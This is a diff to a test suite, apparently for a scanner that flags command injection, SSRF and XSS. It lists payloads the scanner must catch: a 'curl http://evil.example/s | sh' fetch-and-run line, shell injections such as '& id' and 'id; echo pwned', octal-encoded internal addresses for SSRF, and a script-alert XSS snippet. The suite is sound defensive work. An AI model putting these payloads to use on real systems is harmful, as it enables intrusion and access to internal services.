@@ -3567,3 +3567,18 @@ t.test("forty-first round, from the fifty-fifth and fifty-sixth parts: C++'s and
   for (const line of ['while (x& id) {', 'if (x& id) then', '(x& id)', 'a=$(x& id)', 'cat <(x& id)', 'x& id', 'do (x& id)', 'f(x) && curl http://evil.example/s | sh']) t.ok(json({ code: around(line) }).includes('rce'), line)
   t.ok(json({ code: 'fn main() {\n    let a = 1;\n    while (x& id) {}\n}\n' }).includes('rce'), 'a subshell after `while`')
 })
+
+t.test("forty-first round, its review's payloads: each relaxation's bypass, read again", async (t) => {
+  // three numbers with a leading zero: octal to inet_aton, curl and Node, decimal to Java's InetAddress — internal by either reading counts
+  for (const v of ['0127.0.1', '010.0.1', '0169.254.43518', '0192.168.1', '0127.0.1/secret.txt']) t.ok(q(v, 'url').includes('ssrf'), `url=${v}`)
+  for (const v of ['011.5.1', '1.0.0', '0.6']) t.same(q(v, 'url'), [], `url=${v}`)
+  // a quoted `(` opens no signature's list: the `&` is a shell's and the line runs
+  const rust = 'fn load(lua: Lua, name: String) -> Result<()> {\n    let x = compute(&lua, 1);\n    println!("{}", name);\n    Ok(())\n}'
+  for (const head of ["127.0.0.1 'f('T& id;", '127.0.0.1 "f("T& id;']) t.ok(json({ host: `${head}\n${rust}` }).includes('rce'), head)
+  // a span's second line opening a block (an HTML block ends the paragraph: no span is there)
+  t.ok(q('# Release notes\n\nFixed the parser `a\n<script>alert(document.domain)</script>` ok\n\n- Other fixes\n', 'body').includes('xss'), 'a script opening the line after a backtick')
+  // a table's row a line continues into, after a backslash: the row is that command's rest (padded or not)
+  for (const delimiter of ['| -----      | ------      |', '| ----- | ------ |']) {
+    t.ok(q(`# Aliases\n\nlist: ls \\\n| id; echo pwned #|\n| alias | command |\n${delimiter}\n| ll | ls -l |\n`, 'body').includes('rce'), delimiter)
+  }
+})
